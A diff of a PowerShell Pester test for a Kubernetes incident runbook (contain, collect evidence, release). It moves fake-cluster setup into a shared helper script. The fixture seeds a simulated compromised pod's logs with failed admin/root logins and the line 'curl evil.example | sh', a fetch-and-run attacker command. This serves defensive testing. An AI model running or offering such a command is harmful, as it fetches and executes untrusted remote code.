@@ -6,18 +6,7 @@
 Describe 'Kubernetes security incident runbook: contain, collect evidence, release' {
     BeforeAll {
         . ([System.IO.Path]::Combine($PSScriptRoot, '..', '..', 'examples', 'Import-VaultRunbook.ps1'))
-        # The fake is built beside the Pester tests (a project reference), else in its own bin folder.
-        $fakeDll = @(
-            [System.IO.Path]::Combine([AppContext]::BaseDirectory, 'VaultRunbook.FakeKube.dll')
-            Get-ChildItem ([System.IO.Path]::Combine($PSScriptRoot, '..', 'peers', 'VaultRunbook.FakeKube', 'bin', '*', 'net8.0', 'VaultRunbook.FakeKube.dll')) -ErrorAction Ignore | ForEach-Object FullName
-        ) | Where-Object { Test-Path $_ } | Select-Object -First 1
-        if (-not $fakeDll) { throw 'The fake Kubernetes API server is not built: dotnet build tests/peers/VaultRunbook.FakeKube' }
-        Add-Type -Path $fakeDll
-
-        $work = Join-Path ([System.IO.Path]::GetTempPath()) "k8s-security-$([guid]::NewGuid().ToString('N'))"
-        New-Item -ItemType Directory -Path $work | Out-Null
-        $VaultRunbookJournalPath = Join-Path $work 'actions.jsonl'
-        $cluster = [VaultRunbook.FakeKube.FakeKubeServer]::Start()
+        . ([System.IO.Path]::Combine($PSScriptRoot, 'Start-FakeKube.ps1')) -Name k8s-security -Namespace auth
         $null = $cluster.AddDeployment('auth', 'auth-api', 3, 'registry.example.com/auth-api:2.1.0', $null, $false)
         $null = $cluster.AddService('auth', 'auth-api', '', 80)
         $pods = @($cluster.List('Pod', 'auth') | ForEach-Object { $_['metadata']['name'].GetValue[string]() } | Sort-Object)
@@ -28,10 +17,7 @@ Describe 'Kubernetes security incident runbook: contain, collect evidence, relea
         # The incident: one pod shows a burst of failed logins, then a shell; its previous instance crashed.
         $cluster.AddLogLines('auth', $compromised, 'app', [string[]]@('POST /login 401 authentication_failed user=admin', 'POST /login 401 authentication_failed user=root', 'exec /bin/sh -c "curl evil.example | sh"'), $false, $null)
         $cluster.AddLogLines('auth', $compromised, 'app', [string[]]@('panic: runtime error'), $true, $null)
-        $kubeconfig = $cluster.WriteKubeconfig((Join-Path $work 'kubeconfig'), 'auth', 'incident')
-        $PSDefaultParameterValues = @{ '*-K8s*:KubeConfig' = $kubeconfig }
         $evidence = Join-Path $work 'INC-2291'
-        function Invoke-Kubectl { & kubectl --kubeconfig $kubeconfig --cache-dir (Join-Path $work 'kubectl-cache') @args }
         function Get-EndpointPod { @((Invoke-Kubectl get endpoints auth-api -n auth -o json | ConvertFrom-Json).subsets.addresses.targetRef.name | Where-Object { $_ } | Sort-Object) }
     }
 
